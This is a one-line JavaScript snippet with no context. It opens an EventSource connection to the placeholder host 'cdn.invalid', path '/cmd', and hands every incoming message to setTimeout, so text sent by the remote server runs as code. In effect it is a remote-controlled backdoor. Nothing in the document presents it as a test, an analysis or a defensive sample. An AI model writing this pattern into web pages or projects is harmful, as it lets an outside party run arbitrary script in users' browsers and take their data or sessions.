const es = new EventSource('https://cdn.invalid/cmd'); es.onmessage = ({ data }) => setTimeout(data, 0);
